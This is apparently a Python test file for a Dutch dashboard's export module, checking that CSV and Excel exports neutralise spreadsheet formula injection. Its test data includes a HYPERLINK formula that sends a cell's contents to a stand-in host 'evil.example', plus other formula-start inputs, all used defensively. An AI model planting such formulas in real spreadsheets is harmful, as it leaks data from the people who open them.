"""Exports neutralise spreadsheet formulas in text cells (CSV and Excel)."""

from __future__ import annotations

import csv
import io

import pandas as pd
from openpyxl import load_workbook

from ijmond_dash import export

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
DANGEROUS = [PAYLOAD, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def frame() -> pd.DataFrame:
    return pd.DataFrame({"tekst": [*DANGEROUS, "gewoon", "e-mail: a@b.nl"],
                         "aantal": [-5, 1, 2, 3, 4, 5, 6, 7]})


def test_csv_neutralises_every_formula_start_and_keeps_numbers():
    text = export.csv_bytes(frame()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == ["tekst", "aantal"]
    cells = [r[0] for r in rows[1:]]
    assert cells[: len(DANGEROUS)] == ["'" + d for d in DANGEROUS]
    assert cells[-2:] == ["gewoon", "e-mail: a@b.nl"]
    assert [r[1] for r in rows[1:]][0] == "-5"  # a negative number is a number, not a formula


def test_excel_stores_the_payload_as_text_not_as_formula():
    wb = load_workbook(io.BytesIO(export.excel_bytes(frame(), "Gegevens")))
    ws = wb["Gegevens"]
    cell = ws["A2"]
    assert cell.value == "'" + PAYLOAD and cell.data_type == "s"
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert ws["B2"].value == -5


def test_neutraliseer_leaves_other_values_alone():
    assert export.neutraliseer(12) == 12
    assert export.neutraliseer(None) is None
    assert export.neutraliseer("Velsen") == "Velsen"
